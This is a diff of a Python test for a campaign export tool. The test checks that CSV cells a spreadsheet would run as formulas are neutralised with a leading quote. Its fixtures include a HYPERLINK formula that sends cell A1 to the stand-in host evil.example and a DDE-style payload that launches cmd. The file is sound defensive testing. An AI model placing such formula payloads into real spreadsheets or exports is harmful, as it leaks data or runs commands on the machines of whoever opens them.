@@ -90,7 +90,9 @@ def test_export_folders_of_con_and_con_campaign_never_replace_each_other(
 
 
 FORMULAS = {
-    "sms": '=HYPERLINK("http://evil.example/?leak="&A1,"Ver oferta")',
+    # an opt-out, so that only waivable findings stand in the way of the forced export (the SMS
+    # opt-out and the Spanish PUBLI notice are NonWaivable: the test exports en-US)
+    "sms": '=HYPERLINK("http://evil.example/?leak="&A1,"Ver oferta") Reply STOP',
     "post.x": "-20 % en todo el turrón",
     "post.instagram": "@SUM(1+1)*cmd|' /C calc'!A0",
     "post.facebook": "+34 600 000 000 llama ya",
@@ -100,16 +102,16 @@ FORMULAS = {
 
 def test_csv_cells_a_spreadsheet_would_run_get_a_quote(studio: Studio, store: Store, tmp_path: Path) -> None:
     # As found: texts starting with = + - @ went into messages.csv / schedule.csv as they were.
-    overrides = {channel: {"es-ES": {"text": text}} for channel, text in FORMULAS.items()}
+    overrides = {channel: {"en-US": {"text": text}} for channel, text in FORMULAS.items()}
     key = store(key="formulas", channels=list(FORMULAS), overrides=overrides)
     out = tmp_path / "out"
     result = export_campaigns(
-        studio, [key], ExportOptions(out=out, locales=["es-ES"], force_reason="prueba", record=False)
+        studio, [key], ExportOptions(out=out, locales=["en-US"], force_reason="prueba", record=False)
     )
     assert result.exported, result.refused
-    with (out / key / "es-ES/sms/messages.csv").open(newline="", encoding="utf-8") as handle:
+    with (out / key / "en-US/sms/messages.csv").open(newline="", encoding="utf-8") as handle:
         [sms] = list(csv.DictReader(handle))
-    with (out / key / "es-ES/social/schedule.csv").open(newline="", encoding="utf-8") as handle:
+    with (out / key / "en-US/social/schedule.csv").open(newline="", encoding="utf-8") as handle:
         posts = {row["network"]: row["text"] for row in csv.DictReader(handle)}
     assert sms["text"] == "'" + FORMULAS["sms"]
     assert sms["segments"].isdigit()  # numbers stay numbers
@@ -119,7 +121,7 @@ def test_csv_cells_a_spreadsheet_would_run_get_a_quote(studio: Studio, store: St
     for text in [sms["text"], *posts.values()]:
         assert not text.startswith(("=", "+", "-", "@", "\t", "\r"))
     # The channel's own text file is what the tool takes: unchanged.
-    assert (out / key / "es-ES/social/x.txt").read_text("utf-8") == FORMULAS["post.x"] + "\n"
+    assert (out / key / "en-US/social/x.txt").read_text("utf-8") == FORMULAS["post.x"] + "\n"
     manifest = json.loads((out / key / "manifest.json").read_text("utf-8"))
     assert manifest["campaign"]["channels"] == list(FORMULAS)
 
